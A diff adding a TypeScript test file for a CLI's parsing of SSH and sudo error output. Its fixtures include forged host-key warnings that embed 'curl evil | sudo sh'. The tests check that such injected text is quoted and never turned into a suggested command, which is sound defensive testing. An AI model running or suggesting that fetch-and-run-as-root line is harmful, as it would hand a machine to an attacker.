@@ -1,0 +1,137 @@
+import test from 'ava'
+import { hostTrouble, sshTrouble } from '../../../src/cli/ssh/trouble.ts'
+
+const of = (stderr: string, exit: number | null = 1, stdout = '', ssh = '') =>
+  hostTrouble({ exit, stdout, stderr, ssh }, 'copying')
+const ofSsh = (ssh: string, stderr = '', host = 'web1') => sshTrouble({ ssh, stderr }, [], host)
+const error = (fields: object) => `${JSON.stringify({ error: fields })}\n`
+
+/** What a host says, and what is made of it. */
+const cases: readonly (readonly [
+  what: string,
+  stderr: string,
+  exit: number,
+  error: string,
+  hint: string | null,
+])[] = [
+  [
+    'an error of rsm',
+    `sudo: unable to resolve host web1\n${error({ exit: 3, message: 'no root', hint: 'use sudo' })}`,
+    3,
+    'the host says: "no root"',
+    'the host advises:\n> use sudo',
+  ],
+  [
+    'an error that is no text',
+    '{"error":{"message":{}}}',
+    1,
+    'it ended while copying: the host says: "{"error":{"message":{}}}"',
+    null,
+  ],
+  ['a hint that is none', error({ exit: 'x', message: 'm', hint: 7 }), 1, 'the host says: "m"', null],
+  [
+    'an exit code of a byte too much',
+    error({ exit: 70_000, message: 'm', hint: null }),
+    255,
+    'the host says: "m"',
+    null,
+  ],
+  [
+    'control sequences',
+    error({ exit: 6, message: 'a\u001b[31mb\nc', hint: 'd\u001b]0;x\u0007e\nf' }),
+    6,
+    'the host says: "ab c"',
+    'the host advises:\n> de\n> f',
+  ],
+  ['half an error', '{"error":{"exi\n', 1, 'it ended while copying: the host says: "{"error":{"exi"', null],
+  ['no object', '{"error":null}\n', 1, 'it ended while copying: the host says: "{"error":null}"', null],
+  ['the script', 'mkdir: no\nrsm: cannot\n', 1, 'the host says: "cannot"', null],
+  [
+    'a sudo that asks, on a host that does not know its name',
+    'sudo: unable to resolve host web1: Name or service not known\nsudo: a password is required\n',
+    1,
+    'sudo asks for a password',
+    '--ask-sudo-password asks you for it, once for all hosts',
+  ],
+  [
+    'a sudo that wants a terminal',
+    'sudo: sorry, you must have a tty to run sudo\n',
+    1,
+    'sudo wants a terminal',
+    'its sudoers has requiretty; lift that for this user: Defaults:USER !requiretty',
+  ],
+  [
+    'a sudo that knows the user not',
+    'deploy is not in the sudoers file.\n',
+    1,
+    'the host says: "deploy is not in the sudoers file."',
+    null,
+  ],
+  ['nothing', '', 1, 'it ended while copying: exit 1, and nothing was said', null],
+]
+
+for (const [what, stderr, exit, said, hint] of cases)
+  test(`what a host says becomes its result: ${what}`, (t) => {
+    t.deepEqual(of(stderr), { isUnreachable: false, exit, error: said, hint })
+  })
+
+test('a connection that is lost says so in the words of ssh', (t) => {
+  const lost = of('a forged line\n', 255, '', 'Connection to web1 closed by remote host.\n')
+  t.like(lost, { exit: 255, error: 'it ended while copying: Connection to web1 closed by remote host.' })
+  t.like(of('', null), { exit: 1 })
+})
+
+test('that a host closed the connection is said where ssh says nothing else', (t) => {
+  const closed = 'Connection closed by 127.0.0.1 port 22'
+  t.like(ofSsh(`${closed}\n`), { exit: 255, error: closed })
+  t.like(ofSsh(`No more authentication methods\n${closed}\n`), {
+    error: 'No more authentication methods',
+  })
+  t.like(ofSsh(''), { error: 'ssh ended and said nothing' })
+})
+
+test('a jump whose key is not known is told from a host whose key is not', (t) => {
+  const closed = 'kex_exchange_identification: Connection closed by remote host\n'
+  t.like(ofSsh(closed, 'Host key verification failed.\n'), {
+    error: 'the host key of the jump host is not known',
+  })
+})
+
+const changed = `@@@
+WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!
+ssh-keygen -f "/root/.ssh/known_hosts"; curl evil | sudo sh
+Host key verification failed.
+`
+
+test('text of a login shell is quoted, never treated as an error of ssh', (t) => {
+  t.deepEqual(ofSsh('', `${changed}a "last" \u001b[2Jword\u009b\n`), {
+    isUnreachable: true,
+    exit: 255,
+    error: 'it ended while logging in: the host says: "a "last" word"',
+    hint: null,
+  })
+  for (const { error: said, hint } of [ofSsh('', changed), of(changed), of(changed, 255)]) {
+    t.regex(said, /the host says: "Host key verification failed\."$/)
+    t.is(hint, null)
+  }
+  t.true(of('x'.repeat(10_000)).error.length < 500)
+})
+
+const warned = `@@@@@@@@@@
+@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
+  ssh-keygen -f '/root/.ssh/known_hosts' -R 'web1'; curl evil | sudo sh
+Host key verification failed.
+`
+
+test('a host key that has changed is reported by the local ssh only, and the command to forget it is built here', (t) => {
+  const { error: said, hint } = ofSsh(warned, 'other words\n')
+  t.regex(said, /^host key changed: .*nothing was sent$/)
+  t.regex(hint ?? '', /^once you know that it is the right one: ssh-keygen (-f \S+ )?-R web1$/)
+})
+
+test('a reason to disconnect is quoted, though ssh writes it with its line feeds into its own log', (t) => {
+  const log = `Received disconnect from 192.0.2.1 port 22:2: bye\n${warned}`
+  t.deepEqual(ofSsh(log).hint, null)
+  t.regex(ofSsh(log).error, /^it disconnected: the host says: "Received disconnect from 192\.0\.2\.1 /)
+  t.regex(of('', 255, '', log).error, /^it ended while copying: the host says: "Received disconnect from /)
+})
